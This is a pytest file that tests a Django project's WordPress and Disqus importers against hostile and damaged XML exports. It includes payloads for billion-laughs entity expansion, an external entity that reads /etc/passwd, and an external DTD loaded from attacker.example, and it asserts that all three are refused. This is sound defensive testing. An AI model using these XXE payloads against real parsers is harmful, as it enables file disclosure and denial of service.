"""Hostile and damaged files: refused or survived, with a message to act on."""

from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from masthead.discussion.models import Comment
from masthead.importers.disqus import import_disqus
from masthead.importers.wordpress import import_wordpress
from masthead.importers.xmlstream import ImportFileError
from masthead.publishing.models import ArticlePage

pytestmark = pytest.mark.django_db
DATA = Path(__file__).parent / "data" / "wordpress"

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss><channel><item><title>&lol3;</title><wp:post_id>1</wp:post_id></item></channel></rss>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss><channel><item><title>&secret;</title></item></channel></rss>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss><channel></channel></rss>
"""


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (BILLION_LAUGHS, "declares XML entities; refusing to expand them"),
        (EXTERNAL_ENTITY, "declares XML entities; refusing to expand them"),
        (EXTERNAL_DTD, "refers to an external DTD; refusing to load it"),
    ],
)
def test_entity_and_dtd_files_are_refused_and_nothing_is_imported(
    home, tmp_path, content, message
):
    path = tmp_path / "hostile.xml"
    path.write_text(content)

    with pytest.raises(CommandError, match=message):
        call_command("import_wordpress", str(path))
    with pytest.raises(ImportFileError, match=message):
        import_disqus(path=path)
    assert not ArticlePage.objects.exists()


def test_truncated_export_imports_whole_records_and_reports_the_damage(
    home, corpora, tmp_path
):
    whole = (corpora / "wordpress" / "isso_wordpress.xml").read_bytes()
    cut_inside_fourth_comment = whole.index(b"Yet another reply") - 40
    path = tmp_path / "truncated.xml"
    path.write_bytes(whole[:cut_inside_fourth_comment])

    report = import_wordpress(path=path)

    assert "not well-formed XML" in report.file_error
    assert any("comment is damaged" in str(p) for p in report.problems)
    assert set(Comment.objects.values_list("text", flat=True)) == {
        "Erster!1", "Zweiter.", "Drölfter!",
    }  # fmt: skip


def test_malformed_wordpress_file_fails_with_its_line(home):
    path = DATA / "wordpress-importer_malformed.xml"

    with pytest.raises(CommandError, match=r"not well-formed XML \(line 90, column 11"):
        call_command("import_wordpress", str(path))
    assert not ArticlePage.objects.exists()


def test_dry_run_reports_counts_and_saves_nothing(home, corpora):
    path = corpora / "wordpress" / "isso_wordpress.xml"

    report = import_wordpress(path=path, dry_run=True)

    assert report.counts["comments created"] == 8
    assert not ArticlePage.objects.exists()
    assert not Comment.objects.exists()


@pytest.mark.parametrize(
    ("damage", "damaged_line", "first_error"),
    [
        # libxml2 refuses a text over 10 MB, and complains again at the file's end.
        ("huge", 18, "line 21, column 10000024: CData section too big found"),
        # A tag opened and never closed: the item runs into the next one.
        ("unclosed", 18, "line 25, column 42: Opening and ending tag mismatch: "
                         "broken line 25 and wp:post_type"),
    ],
)  # fmt: skip
def test_mid_file_damage_keeps_the_posts_after_it_and_says_what_was_lost(
    home, write_wxr, wxr_item, damage, damaged_line, first_error
):
    if damage == "huge":
        damaged = wxr_item(2, content="x " * 25_000_000)
    else:
        damaged = wxr_item(2).replace("<wp:post_type>", "<wp:post_type><broken>")
    path = write_wxr(wxr_item(1), damaged, wxr_item(3, title="After the damage"))

    with pytest.raises(CommandError) as failure:
        call_command("import_wordpress", str(path))

    assert sorted(ArticlePage.objects.values_list("source", flat=True)) == [
        "wordpress:1",
        "wordpress:3",
    ]
    assert str(failure.value) == (
        f"{path}: the file is not well-formed XML ({first_error}). Records read "
        f"whole were imported: 1 post before the first error (line "
        f"{first_error.split(',')[0].removeprefix('line ')}) and 1 post after it; "
        f"1 post damaged and skipped (starting on line {damaged_line}). Each error is "
        "listed above."
    )


def test_a_disqus_post_after_mid_file_damage_is_imported(home, write_disqus_thread):
    def post(number: int, *, broken="") -> str:
        return (
            f'<post dsq:id="{number}"><message><![CDATA[<p>Post {number}</p>]]>'
            f"</message><createdAt>2020-05-03T10:00:00Z</createdAt>{broken}"
            "<isDeleted>false</isDeleted><isSpam>false</isSpam><author><name>Cy"
            "</name><isAnonymous>true</isAnonymous></author>"
            '<thread dsq:id="1"/></post>\n'
        )

    path = write_disqus_thread(post(1) + post(2, broken="<broken>") + post(3))

    with pytest.raises(CommandError) as failure:
        call_command("import_disqus", str(path), "--create-missing")

    assert sorted(Comment.objects.values_list("text", flat=True)) == [
        "<p>Post 1</p>",
        "<p>Post 3</p>",
    ]
    assert "1 thread and 1 post before the first error" in str(failure.value)
    assert "and 1 post after it; 1 post damaged and skipped" in str(failure.value)
